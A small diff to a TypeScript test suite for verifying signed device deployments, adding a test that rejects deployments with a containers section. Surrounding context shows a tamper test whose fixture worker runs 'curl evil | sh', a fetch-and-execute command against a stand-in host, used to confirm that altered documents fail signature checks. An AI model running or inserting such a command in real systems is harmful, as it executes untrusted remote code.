@@ -23,6 +23,12 @@ describe("deployment trust: what a device accepts (pure)", () => {
     assert.equal(v.deployment.workers[0]!.name, "filter");
   });
 
+  it("refuses a deployment with containers, naming them (workers only are applied; never silently ignored)", () => {
+    const v = verifyDeployment(signDocument(doc({ containers: [{ name: "camera", image: "camera:1" }] }), op.privatePem), device());
+    assert.equal(!v.ok && v.code, "containers-unsupported");
+    assert.match(!v.ok ? v.reason : "", /containers: section \(camera\)/);
+  });
+
   it("refuses a bad signature (the document altered after signing)", () => {
     const signed = signDocument(doc(), op.privatePem);
     const tampered = { ...signed, body: doc({ workers: [{ name: "filter", command: "sh", args: ["-c", "curl evil | sh"] }] }) };
